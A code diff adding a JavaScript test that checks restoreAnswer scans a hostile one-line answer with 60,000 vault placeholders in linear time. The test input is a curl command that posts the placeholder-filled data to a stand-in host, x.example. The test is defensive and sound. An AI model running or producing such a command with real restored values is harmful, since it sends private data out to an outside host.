@@ -110,3 +110,14 @@ describe("restoreAnswer: the answer is untrusted", () => {
     assert.throws(() => Vault.fromJSON({ version: 1, entries: [{ placeholder: "[X_1]", kind: "x", value: "v", createdAt: 1, category: "nope" }] }), /category/);
   });
 });
+
+describe("restoreAnswer: linear on hostile answers", () => {
+  it("a 1 MB one-line answer with 60,000 placeholders is checked without rereading the line for each (bound generous for a loaded machine)", () => {
+    const { vault, mail } = setup();
+    const answer = `curl -d "${`${mail} `.repeat(60_000)}" https://x.example/`;
+    const started = Date.now();
+    const result = restoreAnswer(answer, vault);
+    assert.equal(result.risky.length, 60_000);
+    assert.ok(Date.now() - started < 5000, `${Date.now() - started} ms`);
+  });
+});
